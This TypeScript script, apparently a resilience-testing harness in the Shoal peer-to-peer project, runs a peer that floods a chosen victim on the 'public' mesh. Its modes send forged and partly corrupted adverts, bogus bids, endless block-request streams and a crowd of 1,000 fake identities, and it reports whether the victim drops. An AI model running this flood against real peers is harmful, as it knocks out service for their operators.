// A peer of the mesh that floods one other, until it is ended. Arguments: adverts | bids | streams | identities, the
// victim's multiaddr, a dataset that it holds. Says once a second what it did and what became of it.
import { createMetrics, generateSeed, type PeerId, signerFromSeed, silentLogger, systemClock, systemCrypto, systemRandom } from '@shoal/runtime';
import { encodeMessage, encodeValue, type Message, openAdvert, sealAdvert, topics } from '@shoal/protocol';
import { createNetwork } from '@shoal/network';
import { crowd } from '../../../packages/network/bench/strangers.ts';
import { sampleAdvert, sampleMessages } from '../../../packages/protocol/src/testing/samples.ts';

const [how = '', address = '', dataset = ''] = process.argv.slice(2);
const mesh = 'public';
const victim = address.split('/p2p/').at(-1) as PeerId;
const told = { did: 0, cut: 0, connected: false };
const identities = 1_000;
const batch = 200;
setInterval(() => process.stdout.write(`${JSON.stringify(told)}\n`), 1_000);

if (how === 'identities') {
  for await (const { made, admitted, open } of crowd(mesh, address, identities)) Object.assign(told, { did: made, cut: admitted - open, connected: open > 0 });
}

const network = createNetwork({ seed: generateSeed(), mesh, listen: [], bootstrap: [address], mdns: false, clock: systemClock, random: systemRandom, logger: silentLogger, metrics: createMetrics() });
network.setHandlers({
  message: () => {},
  gossip: () => 'ignore',
  peerConnected: (peer) => void (peer === victim && (told.connected = true)),
  peerDisconnected(peer) {
    if (peer !== victim) return;
    told.connected = false;
    told.cut += 1;
  },
});
await network.start();
network.subscribe(topics.adverts(mesh));

/** Each by a peer that nobody has ever met; sealed as they have to be, but for one in ten. */
function advertOfNobody(): Uint8Array {
  const { value } = openAdvert(sampleAdvert, systemCrypto);
  const { bytes } = sealAdvert({ ...value, mesh, at: Date.now(), seq: told.did }, signerFromSeed(generateSeed()), systemCrypto);
  return told.did % 10 === 0 ? bytes.map((byte, at) => (at === bytes.length - 1 ? byte ^ 1 : byte)) : bytes;
}

/** Bids for jobs that were never offered. */
const bids = encodeMessage({ type: 'entries', ...sampleMessages.entries } as Message);

/** Asks for the same block without end, and reads nothing of what comes. */
async function ask(): Promise<void> {
  const stream = await network.open(victim, '/shoal/blocks/1', { signal: AbortSignal.timeout(5_000) });
  const header = encodeValue({ want: Array.from({ length: 128 }, () => dataset) });
  const frame = new Uint8Array(8 + header.length);
  new DataView(frame.buffer).setUint32(0, header.length);
  frame.set(header, 8);
  for (;;) {
    await stream.write(frame);
    told.did += 1;
  }
}

const attacks: Record<string, () => Promise<void> | void> = {
  adverts() {
    for (let count = 0; count < batch; count += 1, told.did += 1) network.publish(topics.adverts(mesh), advertOfNobody());
  },
  bids() {
    for (let count = 0; count < batch; count += 1, told.did += 1) network.send(victim, bids);
  },
  async streams() {
    await Promise.allSettled(Array.from({ length: 64 }, () => ask()));
  },
};

for (;;) {
  await attacks[how]?.();
  await new Promise((resolve) => setTimeout(resolve, 50));
}
